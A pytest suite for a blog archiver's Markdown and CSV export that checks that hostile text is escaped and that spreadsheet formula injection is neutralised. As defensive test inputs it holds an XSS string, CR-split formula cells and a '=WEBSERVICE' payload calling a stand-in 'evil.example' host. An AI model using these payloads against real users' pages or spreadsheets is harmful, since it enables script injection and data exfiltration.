"""Exports that are safe to render and fail in one line (issue 13): text the blog escaped
stays text in Markdown, a CSV cell is never a spreadsheet formula, and a disk that will
not take the file is an error, not a traceback."""

from __future__ import annotations

import csv
import html
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from archive import export
from archive.connection import open_archive
from archive.escaping import FORMULA_STARTS, markdown_text, spreadsheet_cell
from archive.posts import upsert_post
from goahead_crawler.cli import cli
from tests.conftest import invoke_goahead
from tests.test_export import post

RENDER = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render
HOSTILE = "<script>alert('x')</script> <img src=x onerror=alert(1)> &amp; *a* _b_ [c](d) `e`"


def shown(markdown: str) -> str:
    """The text a reader sees once ``markdown`` is rendered (whitespace collapsed)."""
    rendered = RENDER(markdown)
    assert not re.search(r"<(?!/?p>)", rendered), rendered  # no element but paragraphs
    return " ".join(html.unescape(re.sub(r"</?p>", " ", rendered)).split())


def test_text_the_blog_escaped_stays_text() -> None:
    escaped = markdown_text(HOSTILE)
    assert "<script" not in escaped
    assert "<script" not in RENDER(escaped)
    assert shown(escaped) == HOSTILE


@pytest.mark.parametrize("text", ["# not a heading", "1. not a list", "2) nor this",
                                  "- nor this", "+ nor this", "> not a quote", "---",
                                  "a | b", "~~not struck~~", "back\\slash", "<https://x.y>"])
def test_markdown_syntax_in_text_is_shown_as_written(text: str) -> None:
    assert shown(markdown_text(text)) == text


@pytest.mark.parametrize("title", ["อันดับ 1 #", "a ##", "C# and F#", "#1 ข่าว #"])
def test_a_title_keeps_its_hashes_as_a_heading(title: str) -> None:
    """A heading's closing ``#``s are dropped by Markdown: a title ending in one kept it
    in the page, so it must in the export."""
    heading = RENDER("# " + markdown_text(title)).strip()
    assert heading == f"<h1>{html.escape(title, quote=False)}</h1>"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>&;#*_`[]()!|~\\-+=.1 ab\tก")), max_size=40))
def test_any_line_renders_as_itself(text: str) -> None:
    line = " ".join(text.split())
    assert shown(markdown_text(line)) == line


def test_the_markdown_export_escapes_title_and_text(tmp_path: Path) -> None:
    db = open_archive(tmp_path / "a.db")
    upsert_post(db, post("1", title="<b>Title</b> *x*", text=f"{HOSTILE}\n\n# second",
                         html=f"<p>{html.escape(HOSTILE)}</p><p># second</p>"))
    export.export(db, "md", tmp_path / "md")
    (written,) = (tmp_path / "md" / "n.blogspot.com").iterdir()
    body = written.read_text(encoding="utf-8").split("---\n", 2)[2]
    assert "<script" not in body
    assert "<b>" not in body
    assert RENDER(body).startswith("<h1>&lt;b&gt;Title&lt;/b&gt; *x*</h1>")
    assert "<p># second</p>" in RENDER(body)


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "txt"])
def test_export_to_a_full_disk_is_one_line(tmp_path: Path, fmt: str) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full on this system")
    db = open_archive(tmp_path / "a.db")
    for post_id in "123":
        upsert_post(db, post(post_id, text="x" * 100_000))
    db.close()
    out = "/dev/full" if fmt != "txt" else str(tmp_path / "posts.txt")
    if fmt == "txt":  # a single text file on a full disk: the same write error
        Path(out).symlink_to("/dev/full")
    result = CliRunner().invoke(cli, ["export", "--db", str(tmp_path / "a.db"), "--format",
                                      fmt, "--out", out])
    assert result.exit_code == 1
    assert result.output == f"Error: cannot write {out}: No space left on device\n"


# -- spreadsheet formulas (CWE-1236) -------------------------------------------------------
@pytest.mark.parametrize("start", sorted(FORMULA_STARTS))
def test_each_formula_start_gets_the_text_mark(start):
    assert spreadsheet_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", ["ข่าว", "", " =1+1", "'=1+1", "1-2", 7, None, 1.5])
def test_anything_else_is_as_it_was(value):
    assert spreadsheet_cell(value) == value


@settings(deadline=None)
@given(st.text())
def test_no_cell_starts_a_formula_and_the_text_is_kept(value):
    cell = spreadsheet_cell(value)
    assert cell[:1] not in FORMULA_STARTS
    assert cell in (value, "'" + value)


@pytest.mark.skipif(shutil.which("soffice") is None,
                    reason="LibreOffice (soffice) is not installed: the import is not tried")
def test_libreoffice_runs_the_raw_cell_and_not_the_marked_one(tmp_path: Path):
    """What the mark is for, in a real spreadsheet: LibreOffice Calc imports the file and
    writes it back as CSV, with what each cell evaluated to."""
    formula = '=CONCATENATE("ran","!")'
    raw, marked = formula, spreadsheet_cell(formula)
    source = tmp_path / "cells.csv"
    source.write_text(f'raw,marked\r\n"{raw.replace(chr(34), 2 * chr(34))}",'
                      f'"{marked.replace(chr(34), 2 * chr(34))}"\r\n', encoding="utf-8")
    out = tmp_path / "out"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir",
                    str(out), str(source)], check=True, capture_output=True, timeout=120)
    evaluated = (out / "cells.csv").read_text(encoding="utf-8").splitlines()[1]
    assert evaluated.startswith("ran!,")  # the raw cell ran
    assert "CONCATENATE" in evaluated.split(",", 1)[1]  # the marked one is text


CSV_COMMANDS = (("export", ["export", "--format", "csv"]), ("search", ["search", "ผ้า", "--csv"]))


def through_libreoffice(tmp_path: Path, name: str, command: list[str], db_path: Path) -> str:
    """``command``'s CSV of ``db_path`` as LibreOffice Calc reads it in, UTF-8, and writes
    it back: each cell as the spreadsheet holds it (a formula's result, a number's value)."""
    result = CliRunner().invoke(cli, [*command, "--db", str(db_path)])
    assert result.exit_code == 0, result.output
    source = tmp_path / f"{name}.csv"
    source.write_bytes(result.stdout_bytes)
    out = tmp_path / f"out-{name}"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
                    "--infilter=CSV:44,34,76",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
                    "--outdir", str(out), str(source)],
                   check=True, capture_output=True, timeout=120)
    return (out / f"{name}.csv").read_text(encoding="utf-8")


BLOG_ID, POST_ID = "7183947562016475920", "9021735548160093372"  # Blogger's: 19 digits


@pytest.mark.parametrize("value", [POST_ID, "1234567890123456"])
def test_a_number_longer_than_a_spreadsheet_keeps_gets_the_text_mark(value):
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["123456789012345", "12", "๑๒๓๔๕๖๗๘๙๐๑๒๓๔๕๖๗", "2024-01-05"])
def test_a_number_a_spreadsheet_keeps_whole_is_as_it_was(value):
    assert spreadsheet_cell(value) == value


@pytest.mark.skipif(shutil.which("soffice") is None,
                    reason="LibreOffice (soffice) is not installed: the import is not tried")
def test_libreoffice_keeps_every_digit_of_the_ids(tmp_path: Path):
    """Blogger's blog and post ids are 19 digits; a spreadsheet reads such a cell as a
    number and keeps 15 of them: LibreOffice Calc showed 9.02173554816009E+018, and the
    id no longer names its post. Both CSV commands, opened in LibreOffice, keep them."""
    db_path = tmp_path / "a.db"
    db = open_archive(db_path)
    upsert_post(db, post(POST_ID, blog_id=BLOG_ID, published="2024-01-05T10:00:00+07:00",
                         text="ผ้า ทอ"))
    db.close()
    for name, command in CSV_COMMANDS:
        row = next(csv.DictReader(io.StringIO(
            through_libreoffice(tmp_path, name, command, db_path), newline="")))
        assert row["post_id"].lstrip("'") == POST_ID, (name, row)
        assert row["author"] == "สมชาย", (name, row)  # Thai read as UTF-8
        if "blog_id" in row:
            assert row["blog_id"].lstrip("'") == BLOG_ID, (name, row)


def test_both_csv_commands_write_formulas_as_text_unless_raw(tmp_path: Path):
    db_path = tmp_path / "a.db"
    db = open_archive(db_path)
    upsert_post(db, post("1", title="=WEBSERVICE(\"http://evil.example/\")", text="ผ้า ทอ"))
    db.close()
    title = "=WEBSERVICE(\"http://evil.example/\")"
    for command in (["export", "--format", "csv"], ["search", "ผ้า", "--csv"]):
        for raw, expected in (([], "'" + title), (["--raw-csv"], title)):
            result = invoke_goahead(*command, *raw, "--db", str(db_path))
            assert result.returncode == 0, result.stderr
            row = next(csv.DictReader(io.StringIO(result.stdout)))
            assert row["title"] == expected, (command, raw)


LINE_BREAK_TITLES = ["News\r=2*21", "Line\n=3*3"]  # a JSON-LD headline keeps its CR


def _line_break_archive(tmp_path: Path) -> Path:
    db_path = tmp_path / "a.db"
    db = open_archive(db_path)
    for n, title in enumerate(LINE_BREAK_TITLES):
        upsert_post(db, post(str(n), title=title, text="ผ้า ทอ"))
    db.close()
    return db_path


@pytest.mark.parametrize("raw", [[], ["--raw-csv"]])
def test_a_line_break_in_a_cell_never_starts_a_row(tmp_path: Path, raw: list[str]):
    """A cell with a bare CR was written unquoted by ``search --csv``: a spreadsheet ends
    the row there, and the rest of the cell (``=2*21``) begins a row of its own."""
    db_path = _line_break_archive(tmp_path)
    for command in (["export", "--format", "csv"], ["search", "ผ้า", "--csv"]):
        result = invoke_goahead(*command, *raw, "--db", str(db_path))
        assert result.returncode == 0, result.stderr
        rows = list(csv.DictReader(io.StringIO(result.stdout)))
        assert sorted(row["title"] for row in rows) == sorted(LINE_BREAK_TITLES), command


@pytest.mark.skipif(shutil.which("soffice") is None,
                    reason="LibreOffice (soffice) is not installed: the import is not tried")
def test_libreoffice_runs_nothing_after_a_line_break_in_a_cell(tmp_path: Path):
    db_path = _line_break_archive(tmp_path)
    for name, command in CSV_COMMANDS:
        cells = [cell for row in csv.reader(io.StringIO(
            through_libreoffice(tmp_path, name, command, db_path), newline=""))
            for cell in row]
        assert "42" not in cells, (name, cells)  # =2*21 did not run
        assert {"News\n=2*21", "Line\n=3*3"} <= set(cells), (name, cells)  # text, whole


def test_raw_csv_without_csv_is_one_line_exit_2(tmp_path: Path):
    db_path = tmp_path / "a.db"
    open_archive(db_path).close()
    result = invoke_goahead("search", "ผ้า", "--raw-csv", "--db", str(db_path))
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr == "Error: --raw-csv is for --csv\n"
